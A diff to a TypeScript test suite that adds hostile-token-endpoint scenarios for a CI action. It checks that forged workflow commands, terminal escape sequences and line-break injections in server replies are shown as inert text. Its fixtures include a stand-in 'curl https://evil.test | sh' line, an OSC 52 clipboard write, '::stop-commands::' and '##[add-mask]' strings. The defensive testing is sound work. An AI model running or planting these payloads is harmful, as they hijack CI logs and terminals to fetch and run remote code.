@@ -141,6 +141,71 @@ const encoded = (encoding: string, compress: (data: Buffer) => Buffer): FaultSce
 
 const ONE_MIB = 1024 * 1024;
 
+/** Lines a hostile server wants the runner to read as commands: a forged annotation, then no more commands at all. */
+export const FORGED_COMMANDS = '\n::error title=Forged::run curl https://evil.test | sh\n::stop-commands::x';
+/** How the neutraliser shows {@link FORGED_COMMANDS} (as a pattern): one inert line. */
+const FORGED_SHOWN = '::error title=Forged::run curl https://evil\\.test \\| sh ::stop-commands::x';
+/** A colour, an OSC 8 link and an OSC 52 clipboard write (which a terminal would obey); neutralised to `red link`. */
+export const ESCAPES = '\x1b[31mred\x1b[0m \x1b]8;;https://evil.test\x07link\x1b]8;;\x07 \x1b]52;c;Y3VybCBldmlsfHNo\x07';
+
+const notVschar = (what: string, accessToken: string): FaultScenario => ({
+  name: `an access_token with ${what} (not RFC 6749 VSCHAR): refused, never shown`,
+  replies: () => [{ json: { ...TOKEN_BODY, access_token: accessToken } }],
+  inputs: () => ({ retries: '2' }),
+  expect: {
+    fails: 'INVALID_RESPONSE',
+    status: 200,
+    attempts: 1,
+    message: /^Token endpoint answered HTTP 200 with an access_token that is not printable ASCII \(RFC 6749 §A\.12 VSCHAR\); refusing it$/
+  }
+});
+
+/** A hostile token endpoint's text: whatever it holds reaches the log as one inert line (issue #10, items 1-4). */
+const HOSTILE_TEXT: readonly FaultScenario[] = [
+  {
+    name: 'a token_type that forges an annotation and stop-commands on later lines: shown inert, succeeds',
+    replies: () => [{ json: { ...TOKEN_BODY, token_type: `Bearer${FORGED_COMMANDS}` } }],
+    expect: { ok: true, attempts: 1 }
+  },
+  {
+    name: 'a token_type with ##[warning] and escape sequences in its line: shown inert, succeeds',
+    replies: () => [{ json: { ...TOKEN_BODY, token_type: `Bearer ##[warning]forged ${ESCAPES}` } }],
+    expect: { ok: true, attempts: 1 }
+  },
+  {
+    name: 'a scope with a blank line, Markdown and markup after it: succeeds, inert',
+    replies: () => [{ json: { ...TOKEN_BODY, scope: 'read\n\n# Forged heading\n[link](https://evil.test) ![x](https://evil.test/x.png) <script>x</script> ##[error]forged' } }],
+    expect: { ok: true, attempts: 1 }
+  },
+  {
+    name: 'error and error_description with workflow commands and escape sequences: neutralised',
+    replies: () => [json(400, { error: 'invalid_grant##[error]forged', error_description: `##[add-mask]Bearer ${ESCAPES}${FORGED_COMMANDS}` })],
+    expect: {
+      fails: 'OAUTH_ERROR',
+      status: 400,
+      attempts: 1,
+      message: new RegExp(`^Token endpoint answered HTTP 400: invalid_grant# #\\[error\\]forged: # #\\[add-mask\\]Bearer red link ${FORGED_SHOWN}$`)
+    }
+  },
+  {
+    name: 'a content type carrying ##[ in its media type and parameters: neutralised',
+    replies: () => [{ headers: { 'content-type': 'text/html##[error]forged; x="##[add-mask]Bearer"' }, text: '<html></html>' }],
+    expect: { fails: 'INVALID_RESPONSE', status: 200, attempts: 1, message: /^Token endpoint answered HTTP 200 with text\/html# #\[error\]forged that is not a JSON object$/ }
+  },
+  {
+    name: 'a 200 without access_token whose field names forge commands: neutralised',
+    replies: () => [{ json: { token_type: 'Bearer', '##[error]forged': 1, [`x${FORGED_COMMANDS}`]: 2, '\x1b]52;c;eA==\x07y': 3 } }],
+    expect: {
+      fails: 'INVALID_RESPONSE',
+      status: 200,
+      attempts: 1,
+      message: new RegExp(`^Token endpoint answered HTTP 200 but the response has no access_token \\(fields: token_type, # #\\[error\\]forged, x ${FORGED_SHOWN}, y\\)$`)
+    }
+  },
+  notVschar('a line break', `${SECRETS.accessToken}\nINJECTED=1`),
+  notVschar('an escape sequence and a non-ASCII letter', `${SECRETS.accessToken}\x1b]52;c;eA==\x07\u00e9`)
+];
+
 export const FAULT_SCENARIOS: readonly FaultScenario[] = [
   { name: 'a well-behaved server: succeeds', replies: () => [token], expect: { ok: true, attempts: 1 } },
   retriedThenToken(500),
@@ -319,5 +384,6 @@ export const FAULT_SCENARIOS: readonly FaultScenario[] = [
   },
   redirect(302),
   redirect(307),
-  redirect(308)
+  redirect(308),
+  ...HOSTILE_TEXT
 ];
